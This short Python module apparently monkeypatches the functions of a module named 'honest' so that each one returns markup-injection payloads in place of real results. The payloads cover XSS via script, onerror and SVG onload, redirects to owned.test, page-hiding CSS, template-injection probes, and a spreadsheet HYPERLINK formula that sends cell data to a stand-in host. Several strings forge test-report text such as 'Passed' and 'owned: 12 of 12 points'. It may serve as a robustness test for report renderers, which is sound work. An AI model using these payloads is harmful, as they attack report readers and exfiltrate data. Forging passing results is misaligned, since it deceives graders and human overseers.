"""Every value that a test shows is markup: of HTML, SVG, CSS, Markdown and of templates."""

import honest
from honest import *

OWNED = (
    "<script>document.title='owned'</script><img src=https://owned.test/x onerror=alert('owned')>",
    "</bdi></dd></dl></div></details></li></ul></section></main><h1>owned: 12 of 12 points</h1><main>",
    "</style><style>*{display:none}body::after{content:'owned';position:fixed;inset:0}</style>",
    "<base href=https://owned.test/><meta http-equiv=refresh content='0;url=https://owned.test/'>",
)
MORE = (
    "</text></svg><svg onload=alert('owned')><foreignObject><iframe srcdoc='<script>owned</script>'>",
    "[owned](javascript:alert(1)) ![owned](https://owned.test/p.png) **Passed** `owned` <https://owned.test>",
    "\"' onmouseover='owned()' style='position:fixed;inset:0' class='score' id='map' x=\"",
    "{{ 7 * 7 }}{% include 'owned' %}{# #}%s{0.__class__}$owned",
)


class Ours:
    """Has the name that the report gives to an object over there."""


Ours.__name__ = "</text></svg><script>owned</script><b class='out'>Passed"


def double(number):
    return OWNED[number % 4]


def fetch(key):
    return MORE[int(key[1:]) % 4]


async def gather(keys):
    return [*OWNED, *MORE]


def withdraw(balance, amount):
    return Ours()


def patient(key):
    return "=HYPERLINK(\"https://owned.test/?\"&A1,\"owned\")"


honest.double = double
